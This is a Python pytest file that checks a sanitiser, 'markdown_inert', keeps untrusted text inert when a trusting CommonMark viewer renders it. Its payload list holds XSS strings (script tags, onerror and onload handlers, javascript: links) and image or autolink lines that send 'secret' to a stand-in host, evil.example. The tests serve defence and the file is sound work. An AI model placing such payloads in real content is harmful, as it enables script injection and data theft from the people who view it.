"""Untrusted text written into a Markdown file is inert: a viewer that passes raw HTML through and
follows every link (as many do) shows it as text, while it still reads as written."""

import pytest
from markdown_it import MarkdownIt

from citadel.core.markdown import markdown_inert

# The most trusting viewer: CommonMark with raw HTML on.
VIEWER = MarkdownIt("commonmark", {"html": True})

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<!-- hidden --><b>bold</b>",
    "<https://evil.example/?q=secret>",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/?q=secret)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click]\n\n[click]: javascript:alert(1)",
    "[click\\](javascript:alert(1))",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_viewer_makes_a_tag_a_link_or_an_image_of_it(text):
    rendered = VIEWER.render(markdown_inert(text))

    for active in ("<script", "<img", "<svg", "<b>", "<!--", "<a ", "<iframe"):
        assert active not in rendered, rendered


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Refunds take <14> days & more.", "Refunds take &lt;14&gt; days &amp; more."),
        ("It says &lt;b&gt; literally.", "It says &amp;lt;b&amp;gt; literally."),
        ("[click](javascript:alert(1))", "[click](javascript:alert(1))"),
    ],
)
def test_rendered_it_shows_the_text_as_written(text, shown):
    assert VIEWER.render(markdown_inert(text)) == f"<p>{shown}</p>\n"


def test_in_plain_text_it_reads_as_written_and_keeps_its_emphasis_and_citations():
    text = "Refunds take **14 days** [1], or 30 for AT&T -> see > 2."

    assert markdown_inert(text) == text
    assert VIEWER.render(markdown_inert(text)) == (
        "<p>Refunds take <strong>14 days</strong> [1], or 30 for AT&amp;T -&gt; see &gt; 2.</p>\n"
    )
